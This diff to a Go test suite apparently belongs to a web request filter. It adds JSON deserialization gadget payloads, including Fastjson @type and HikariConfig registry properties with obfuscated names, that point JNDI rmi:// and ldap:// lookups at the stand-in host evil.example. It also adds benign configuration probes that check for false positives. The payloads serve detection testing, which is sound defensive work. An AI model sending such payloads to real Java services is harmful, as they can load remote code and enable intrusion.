@@ -64,6 +64,11 @@ var gadgetJSONAttacks = []string{
 	// attack 21's: LOWER_DOT_CASE, Xalan's JNDIConnectionPool
 	`{"metric.registry":"rmi://evil.example/x"}`, `{"com.zaxxer.hikari.HikariConfig":{"metric.registry":"ldap://evil.example/x"}}`,
 	`{"x":{"type":"org.apache.xalan.lib.sql.JNDIConnectionPool","jndiPath":"ldap://evil.example/x"}}`,
+	// attack 21's open ones: Fastjson's names with _ or - anywhere, the
+	// other gadget classes' JNDI properties without their class
+	`{"@type":"com.zaxxer.hikari.HikariConfig","metr_icRegistry":"ldap://evil.example/x"}`, `{"x":{"health-Check_Regis-try":"rmi://evil.example/x"}}`,
+	`{"x":{"registryName":"ldap://evil.example/x"}}`, `{"x":{"transactionManagerName":"rmi://evil.example/x"}}`,
+	`{"x":{"userTransactionName":"ldap://evil.example/x"}}`, `{"x":{"resourceName":"ldap://evil.example/x"}}`, `{"x":{"asText":"ldap://evil.example/x"}}`,
 }
 
 // javaSerialized is the start of a serialized commons-collections chain
@@ -149,6 +154,8 @@ func TestGadgetsBeyondTheCRS(t *testing.T) {
 		probe{name: "JSON an LDAP server's URL", method: "POST", path: "/api/config", contentType: "application/json", body: `{"ldapUrl":"ldap://ldap.corp.example:389","lookupBase":"dc=corp,dc=example"}`},
 		probe{name: "JSON a data source's description naming dns: (attack 20)", method: "POST", path: "/admin/ds", contentType: "application/json", body: `{"dataSourceName":"reporting (dns: reports.db.internal)"}`},
 		probe{name: "JSON a metrics registry", method: "POST", path: "/api/config", contentType: "application/json", body: `{"metricRegistry":"prometheus","healthCheckRegistry":"default"}`},
+		probe{name: "JSON an LDAP directory's settings in snake case", method: "POST", path: "/api/config", contentType: "application/json", body: `{"ldap_url":"ldap://ldap.corp.example:389","bind_dn":"cn=app,dc=corp","resource_type":"directory","registry":{"name":"ldap-main"}}`},
+		probe{name: "JSON a resource named by a java: name", method: "POST", path: "/api/config", contentType: "application/json", body: `{"resourceName":"java:comp/env/jdbc/orders","transactionManagerName":"java:appserver/TransactionManager"}`},
 		probe{name: "JSON driverClassName c3p0", method: "POST", path: "/api/config", contentType: "application/json", body: `{"driverClassName":"com.mchange.v2.c3p0.ComboPooledDataSource"}`})
 	runBeyondTheCRS(t, nil, misses, benign)
 }
